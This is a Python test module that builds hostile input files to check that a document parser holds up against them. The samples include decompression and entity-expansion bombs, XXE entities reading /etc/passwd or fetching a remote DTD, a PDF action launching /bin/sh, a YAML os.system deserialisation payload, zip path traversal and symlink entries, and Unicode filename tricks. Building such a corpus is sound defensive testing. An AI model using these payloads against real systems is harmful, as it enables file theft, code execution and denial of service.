"""Hostile files, made to order: bombs, loops, lies about sizes, broken structures, text that hides or never ends."""

import io
import random
import struct
import tempfile
import zipfile
import zlib
from collections.abc import Iterator

from tests.reading_structure.making import RESOLUTION, Word, assembled, docx, paragraph, pdf, pdf_objects

LEFT_BEHIND = f"{tempfile.gettempdir()}/servanda-left-behind"
"""What a hostile file would write if it could."""

Case = tuple[str, bytes]
SOUND_PDF = pdf([[Word(147, 700 - 14 * i, line) for i, line in enumerate(RESOLUTION.splitlines()) if line]])
SOUND_DOCX = docx("".join(paragraph(line) for line in RESOLUTION.splitlines() if line))
SOUND_AKN = (
    b'<akomaNtoso xmlns="http://docs.oasis-open.org/legaldocml/ns/akn/3.0"><statement><mainBody>'
    b"<formula><p>The General Assembly,</p></formula><paragraph><num>1.</num><content><p>Requests the Office to report;</p>"
    b"</content></paragraph></mainBody></statement></akomaNtoso>"
)
SOUND_HTML = b"<html><body><p>The General Assembly,</p><ol><li>Requests the Office to report;</li></ol></body></html>"


def cases() -> Iterator[Case]:
    """All of them, each under a name that tells what it is and what it claims to be."""
    for group in (_truncated, _altered, _pdf, _xml, _zip, _text, _html, _yaml, _markdown, _disguised):
        yield from group()


def _truncated() -> Iterator[Case]:
    for kind, data, count in (("pdf", SOUND_PDF, 24), ("docx", SOUND_DOCX, 16), ("xml", SOUND_AKN, 10), ("html", SOUND_HTML, 8)):
        for i in range(1, count):
            yield f"cut-{i}-of-{count}.{kind}", data[: len(data) * i // count]


def _altered() -> Iterator[Case]:
    """Bytes changed at random places, by fixed seeds."""
    for kind, data, count in (("pdf", SOUND_PDF, 30), ("docx", SOUND_DOCX, 24), ("xml", SOUND_AKN, 8)):
        for seed in range(count):
            chance = random.Random(seed)
            held = bytearray(data)
            for _ in range(1 + seed % 12):
                held[chance.randrange(8, len(held))] = chance.randrange(256)
            yield f"altered-{seed}.{kind}", bytes(held)


def _stream(packed: bytes, extra: str = "") -> bytes:
    return b"<< /Length %d /Filter /FlateDecode %s >>\nstream\n%s\nendstream" % (len(packed), extra.encode(), packed)


def _one_page(contents: bytes) -> list[bytes]:
    objects = pdf_objects([[]])
    objects[-1] = contents
    return objects


def _pdf() -> Iterator[Case]:
    yield "ten-thousand-pages.pdf", pdf([[Word(72, 700, f"{i}. Requests the Office to report;")] for i in range(10_000)])
    yield "page-bomb.pdf", assembled(_one_page(_stream(zlib.compress(b" " * 150_000_000, 1))))
    yield "text-bomb.pdf", assembled(_one_page(_stream(zlib.compress(b"BT /F1 1 Tf (aaaaaaaaaaaaaaaa) Tj ET\n" * 1_500_000, 1))))
    yield (
        "twice-packed.pdf",
        assembled(
            _one_page(
                _stream(zlib.compress(zlib.compress(b"0" * 150_000_000, 1)), "/F 1").replace(
                    b"/FlateDecode", b"[/FlateDecode /FlateDecode]"
                )
            )
        ),
    )
    sound = pdf_objects([[Word(72, 700, "1. Requests the Office to report;")]])
    for name, index, body in (
        ("kids-loop", 1, b"<< /Type /Pages /Count 1 /Kids [2 0 R] >>"),
        ("kids-many-times", 1, b"<< /Type /Pages /Count 99999 /Kids [" + b"5 0 R " * 5000 + b"] >>"),
        ("count-lie", 1, b"<< /Type /Pages /Count 2147483647 /Kids [5 0 R] >>"),
        ("count-negative", 1, b"<< /Type /Pages /Count -5 /Kids [5 0 R] >>"),
        ("parent-loop", 0, b"<< /Type /Catalog /Pages 1 0 R >>"),
        ("launches", 0, b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /Launch /F (/bin/sh) >> >>"),
        ("scripts", 0, b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (while(true){}) >> >>"),
        ("calls-home", 0, b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /URI /URI (http://192.0.2.1/) >> >>"),
        ("no-pages", 0, b"<< /Type /Catalog >>"),
        ("deep-array", 0, b"<< /Type /Catalog /Pages 2 0 R /X " + b"[" * 60_000 + b"]" * 60_000 + b" >>"),
        ("deep-dictionary", 0, b"<< /Type /Catalog /Pages 2 0 R /X " + b"<< /A " * 30_000 + b">>" * 30_000 + b" >>"),
        ("huge-number", 4, b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 1e300 -1e300] /Contents 6 0 R >>"),
        ("length-lie", 5, b"<< /Length 2147483647 >>\nstream\nBT ET\nendstream"),
        ("length-negative", 5, b"<< /Length -1 >>\nstream\nBT ET\nendstream"),
        ("length-loop", 5, b"<< /Length 6 0 R >>\nstream\nBT ET\nendstream"),
        ("bad-filter", 5, b"<< /Length 5 /Filter /NoSuch >>\nstream\nBT ET\nendstream"),
        ("bad-font", 2, b"<< /Type /Font /Subtype /Type0 /DescendantFonts [3 0 R] /Encoding /Identity-H >>"),
        (
            "form-loop",
            5,
            b"<< /Length 6 /Resources << /XObject << /A 6 0 R >> >> /Type /XObject /Subtype /Form >>\nstream\n/A Do \nendstream",
        ),
        ("unbalanced", 5, b"<< /Length 400000 >>\nstream\n" + b"q " * 200_000 + b"\nendstream"),
    ):
        yield f"{name}.pdf", assembled([*sound[:index], body, *sound[index + 1 :]])
    yield "encrypted.pdf", assembled(sound, "/Encrypt << /Filter /Standard /V 1 /R 2 /O (x) /U (y) /P -4 >> /ID [<00> <00>]")
    yield "xref-nowhere.pdf", SOUND_PDF.replace(b"startxref\n", b"startxref\n9")
    yield "xref-loop.pdf", assembled(sound, "/Prev 9")
    yield "xref-wrong.pdf", SOUND_PDF.replace(b"0000000", b"0000999")
    yield "only-a-header.pdf", b"%PDF-1.7\n"
    yield "header-late.pdf", b"\n" * 900 + SOUND_PDF
    yield "twice.pdf", SOUND_PDF * 2
    yield "many-words.pdf", pdf([[Word(10 + i % 500, 10 + i % 700, "a1") for i in range(60_000)]])


def _xml() -> Iterator[Case]:
    for depth in (3, 9, 30):
        declared = '<!ENTITY a0 "lol">' + "".join(f'<!ENTITY a{i} "{f"&a{i - 1};" * 10}">' for i in range(1, depth))
        yield f"laughs-{depth}.xml", f"<!DOCTYPE akomaNtoso [{declared}]><akomaNtoso><p>&a{depth - 1};</p></akomaNtoso>".encode()
    for name, entity in (
        ("file", '<!ENTITY x SYSTEM "file:///etc/passwd">'),
        ("network", '<!ENTITY x SYSTEM "http://192.0.2.1/x">'),
        ("parameter", '<!ENTITY % x SYSTEM "file:///etc/passwd"> %x;'),
        ("quadratic", f'<!ENTITY x "{"a" * 60_000}">'),
        ("itself", '<!ENTITY x "&x;">'),
    ):
        yield f"entity-{name}.xml", f"<!DOCTYPE akomaNtoso [{entity}]><akomaNtoso><p>{'&x;' * 2000}</p></akomaNtoso>".encode()
    yield "remote-dtd.xml", b'<!DOCTYPE akomaNtoso SYSTEM "http://192.0.2.1/a.dtd"><akomaNtoso><p>1. Requests</p></akomaNtoso>'
    for depth in (150, 1000, 200_000):
        yield f"deep-{depth}.xml", b"<akomaNtoso>" + b"<p>" * depth + b"x" + b"</p>" * depth + b"</akomaNtoso>"
    yield "wide.xml", b"<akomaNtoso>" + b"<p>1. Requests a report;</p>" * 250_000 + b"</akomaNtoso>"
    yield "long-attribute.xml", b'<akomaNtoso a="' + b"x" * 8_000_000 + b'"><p>x</p></akomaNtoso>'
    yield "many-attributes.xml", b"<akomaNtoso " + b" ".join(b'a%d="1"' % i for i in range(100_000)) + b"><p>x</p></akomaNtoso>"
    yield "wrong-encoding.xml", b'<?xml version="1.0" encoding="utf-32"?><akomaNtoso><p>\xff\xfe</p></akomaNtoso>'
    yield "two-roots.xml", b"<akomaNtoso/><akomaNtoso/>"
    yield "never-closed.xml", b"<akomaNtoso>" + b"<p>" * 180
    yield "control.xml", b"<akomaNtoso><p>a\x00b</p></akomaNtoso>"


def _zipped(*entries: tuple[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in entries:
            archive.writestr(name, data)
    return out.getvalue()


def _document(body: bytes) -> bytes:
    return (
        b'<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>'
        + body
        + b"</w:body></w:document>"
    )


def _zip() -> Iterator[Case]:
    sound = ("word/document.xml", _document(b"<w:p><w:r><w:t>1. Requests the Office to report;</w:t></w:r></w:p>"))
    yield "bomb.docx", _zipped(("word/document.xml", b"<a>" + b" " * 100_000_000))
    yield "tree-bomb.docx", _zipped(("word/document.xml", _document(b"<w:p><w:r><w:t>x</w:t></w:r></w:p>" * 1_200_000)))
    for name in (
        f"../../../..{LEFT_BEHIND}",
        LEFT_BEHIND,
        "C:\\servanda-left-behind",
        "..\\..\\left",
        "a\x00b",
    ):
        yield f"slip-{len(name)}.docx", _zipped(sound, (name, b"x"))
    link = zipfile.ZipInfo("link")
    link.external_attr = 0xA1FF << 16
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr(sound[0], sound[1])
        archive.writestr(link, "/etc/passwd")
    yield "link.docx", out.getvalue()
    yield "many-entries.docx", _zipped(sound, *((f"word/{i}", b"") for i in range(20_000)))
    yield "in-itself.docx", _zipped(sound, ("word/embedded.docx", SOUND_DOCX * 20))
    yield (
        "laughs.docx",
        _zipped(("word/document.xml", b'<!DOCTYPE x [<!ENTITY a "aaa"><!ENTITY b "&a;&a;&a;">]>' + _document(b"<w:p/>&b;"))),
    )
    yield (
        "outside.docx",
        _zipped(("word/document.xml", b'<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>' + _document(b"&a;"))),
    )
    yield "deep.docx", _zipped(("word/document.xml", _document(b"<w:p>" * 50_000 + b"</w:p>" * 50_000)))
    yield (
        "numbers.docx",
        _zipped(
            sound,
            (
                "word/numbering.xml",
                b'<w:numbering xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:num/></w:numbering>',
            ),
        ),
    )
    yield "no-document.docx", _zipped(("word/other.xml", b"<a/>"))
    yield "empty-document.docx", _zipped(("word/document.xml", b""))
    size = SOUND_DOCX.find(b"PK\x01\x02")
    yield "size-lie.docx", SOUND_DOCX[: size + 24] + struct.pack("<I", 0xFFFFFFF0) + SOUND_DOCX[size + 28 :]
    yield "encrypted.docx", SOUND_DOCX[:6] + b"\x01" + SOUND_DOCX[7:]
    yield "many-pictures.docx", docx(paragraph("1. Requests a report;") + "<w:p><w:r><w:drawing/></w:r></w:p>" * 5000)


def _text() -> Iterator[Case]:
    head = "The General Assembly,\n\n"
    yield "huge.txt", bytes(100 * 1024 * 1024)
    for name, text in (
        ("turned", RESOLUTION.replace("Secretary", "\u202eyraterceS\u202c")),
        ("isolates", RESOLUTION.replace("report", "\u2066re\u2069port\u200b")),
        ("tags", RESOLUTION + "".join(chr(0xE0020 + i) for i in range(90))),
        ("controls", RESOLUTION.replace(" ", " \x07\x1b[2J")),
        ("zero-width", RESOLUTION.replace("e", "e\u200d\u200c")),
        ("piled-accents", head + "1. R" + "\u0301" * 100_000 + "equests a report;"),
        ("one-line", head + "1. Requests " + "report " * 400_000),
        ("one-word", head + "1. Requests " + "a" * 3_000_000),
        ("many-lines", head + "a\n" * 400_000),
        ("many-numbers", head + "".join(f"{i}. Requests a report;\n\n" for i in range(1, 40_000))),
        ("same-number", head + "1. Requests a report;\n\n" * 30_000),
        ("deep-labels", head + "1. Requests:\n" + "(a) x:\n(i) y:\n" * 20_000),
        ("open-brackets", head + "1. Requests " + "(" * 200_000),
        ("open-quotes", head + "1. Requests " + "“" * 200_000),
        ("closing-quotes", head + "1. Requests " + "a” " * 3_000),
        ("the-the", "The " * 200_000),
        ("conferences", "The Conference, the " * 60_000),
        ("hyphens", head + "1. Requests " + "a-\n" * 100_000),
        ("feeds", "\f".join(f"{i}" for i in range(50_000)) + RESOLUTION),
        ("stars", head + "1. Requests " + "x* " * 50_000),
        ("spaces", " " * 5_000_000 + RESOLUTION),
        ("tabs", "\t" * 2_000_000 + RESOLUTION),
        ("acts", head + "1. Requests " + ", instructs the " * 20_000 + "\n\n2. Requests\n\n1. Requests"),
        ("byte-mark-only", "\ufeff"),
        ("returns", RESOLUTION.replace("\n", "\r" * 500)),
        ("dots", head + "1. " + ". " * 500_000),
        ("digits", "1" * 2_000_000),
        ("bullets", head + "1. Requests:\n" + "• x;\n" * 50_000),
        ("separators", head + "\u2028".join(["1. Requests a report;"] * 20_000)),
        ("notes", head + "1. Requests a report;\n\n" + "* See this.\n\n" * 20_000),
    ):
        yield f"{name}.txt", text.encode()
    yield "bad-utf8.txt", RESOLUTION.encode().replace(b"r", b"\xc3\x28\xa0\xff")
    yield "utf16-half.txt", RESOLUTION.encode("utf-16")[:-1]
    yield "utf32.txt", RESOLUTION.encode("utf-32")
    yield "surrogates.txt", RESOLUTION.encode() + b"\xed\xa0\x80"
    yield "zeros.txt", bytes(1_000_000)
    yield "noise.txt", random.Random(1).randbytes(300_000)


def _html() -> Iterator[Case]:
    for name, text in (
        ("deep", "<div>" * 200_000 + "<p>1. Requests a report;</p>"),
        ("deep-lists", "<ol><li>" * 50_000 + "Requests a report;"),
        ("wide", "<p>1. Requests a report;</p>" * 60_000),
        ("open-comment", "<!--" * 50_000 + RESOLUTION),
        ("open-tag", "<p " + "a=b " * 100_000),
        ("open-script", "<script>" + "x" * 2_000_000),
        ("attributes", '<p class="' + "a " * 1_000_000 + '">1. Requests a report;</p>'),
        ("references", "<p>" + "&nosuch;&#x110000;&#-1;&amp" * 50_000 + "</p>"),
        ("big-start", "<ol start='999999999999999999999'><li>Requests a report;</li></ol>"),
        ("sections", "<![CDATA[" * 20_000 + RESOLUTION),
        ("declarations", "<!DOCTYPE [" * 20_000 + RESOLUTION),
        ("tables", "<table><tr><td>" * 30_000 + "x"),
        ("marks", "<p>1. Requests" + "<sup>1</sup>" * 20_000 + "</p>"),
        ("closing-only", "</p></div></ol></main></span>" * 50_000 + RESOLUTION),
    ):
        yield f"{name}.html", f"<html><body>{text}".encode()


def _yaml() -> Iterator[Case]:
    for name, text in (
        ("laughs", "a: &a [x,x]\nb: &b [*a,*a]\nc: &c [*b,*b]\nresolutions: [*c,*c]"),
        ("python", f"resolutions: !!python/object/apply:os.system ['touch {LEFT_BEHIND}']"),
        ("deep", "resolutions: " + "[" * 50_000),
        ("itself", "resolutions: &a [*a]"),
        ("tabs", "resolutions:\n\t- a"),
        ("wide", "resolutions: [" + "{actions: []}, " * 30_000 + "]"),
        ("wrong-shapes", "resolutions: {actions: 5}\nmetadata: [1]\n"),
        ("documents", "---\na: 1\n" * 5_000),
    ):
        yield f"{name}.yml", text.encode()


def _markdown() -> Iterator[Case]:
    for name, text in (
        ("quotes", "> " * 20_000 + "1. Requests a report;"),
        ("lists", "".join("  " * i + "1. x\n" for i in range(800))),
        ("emphasis", "*a **a " * 20_000),
        ("brackets", "[" * 50_000),
        ("links", "[a](" * 20_000),
        ("ticks", "".join("`" * i + " " for i in range(800))),
        ("front", "---\na: &a [1,1]\nb: [*a,*a]\n---\n" + RESOLUTION),
        ("open-front", "---\n" * 50_000 + RESOLUTION),
        ("tables", "|a" * 2_000 + "|\n" + "|-" * 2_000 + "|\n" + ("|b" * 2_000 + "|\n") * 20),
    ):
        yield f"{name}.md", text.encode()


def _disguised() -> Iterator[Case]:
    """One format under the name of another."""
    for name in ("pdf", "docx", "xml", "html", "yml", "md", "txt", ""):
        yield f"a-pdf.{name}", SOUND_PDF
        yield f"a-text.{name}", RESOLUTION.encode()
    yield "a-zip.pdf", SOUND_DOCX
    yield "both.pdf", SOUND_PDF + SOUND_DOCX
    yield "program.txt", b"\x7fELF" + bytes(1000)
    yield "\u202efdp.txt", SOUND_PDF
